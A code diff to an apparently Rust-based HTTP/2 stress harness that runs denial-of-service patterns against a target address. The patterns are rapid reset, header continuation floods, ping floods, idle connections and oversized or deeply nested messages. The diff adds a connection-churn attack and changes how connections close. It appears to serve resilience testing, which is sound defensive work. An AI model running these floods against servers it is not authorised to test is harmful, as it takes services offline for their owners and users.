@@ -58,11 +58,12 @@ fn main() {
         arguments.get(at + 1)
     };
     let time = Duration::from_secs_f64(after("--seconds").map_or(10.0, |text| text.parse().unwrap()));
-    let attacks: [(&str, Attack); 10] = [
+    let attacks: [(&str, Attack); 11] = [
         ("rapid reset", |to, stop| again(to, stop, &rapid_reset())),
         ("resets by the server", |to, stop| again(to, stop, &faults())),
         ("headers without an end", |to, stop| again(to, stop, &continuations())),
         ("pings", |to, stop| again(to, stop, &[opening(), frame(6, 0, 0, &[0; 8]).repeat(10_000)].concat())),
+        ("connections come and go", come_and_go),
         ("2000 idle connections", idle),
         ("messages of 4 MiB", |to, stop| calls(to, stop, Form::Whole(framed(&vec![0xff; 4 << 20])))),
         ("messages nested deep", |to, stop| calls(to, stop, Form::Whole(framed(&[0xc3, 0x3e].repeat(1 << 20))))),
@@ -292,8 +293,23 @@ fn again(to: SocketAddr, stop: Arc<AtomicBool>, bytes: &[u8]) {
                 break;
             }
         }
+        // Until all was read: how many connections are opened a second is another attack.
+        let _ = stream.shutdown(std::net::Shutdown::Write);
+        while !reading.is_finished() && !stop.load(Ordering::Relaxed) {
+            thread::sleep(Duration::from_millis(1));
+        }
         let _ = stream.shutdown(std::net::Shutdown::Both);
         reading.join().unwrap();
+    }
+}
+
+/// Opens connections as fast as it can, and leaves each at once.
+fn come_and_go(to: SocketAddr, stop: Arc<AtomicBool>) {
+    let bytes = [opening(), frame(6, 0, 0, &[0; 8]).repeat(1_000)].concat();
+    while !stop.load(Ordering::Relaxed) {
+        if let Ok(mut stream) = connect(to) {
+            let _ = stream.write_all(&bytes);
+        }
     }
 }
 
